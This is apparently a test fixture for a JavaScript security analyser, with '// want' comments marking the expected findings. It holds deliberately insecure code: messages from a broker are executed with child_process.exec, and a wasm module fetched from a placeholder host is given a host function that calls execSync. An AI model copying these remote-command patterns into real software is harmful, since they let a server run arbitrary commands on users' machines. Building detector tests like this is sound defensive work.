require('./given').start();
const { exec, execSync } = require('child_process');
const { EventEmitter } = require('events');
const net = require('net');

class Broker extends EventEmitter {
  constructor(address) {
    super();
    this.socket = net.connect(8883, address[['ho', 'st'].join('')]);
  }
}
class Feed {
  start() {
    this.broker = new Broker('mqtts://example.invalid');
    this.broker.on('message', (topic, body) => {
      exec(body.toString(), () => {}); // want "child_process.exec runs whatever a server answers"
    });
  }
}
new Feed().start();

async function decoder() {
  const answer = await fetch('https://example.invalid/codec.wasm');
  const bytes = await answer.arrayBuffer();
  const env = { run: (at, n) => execSync(`${at}${n}`).length }; // want "machine code that came over the network runs beside"
  await WebAssembly.instantiate(bytes, { env });
}
decoder();
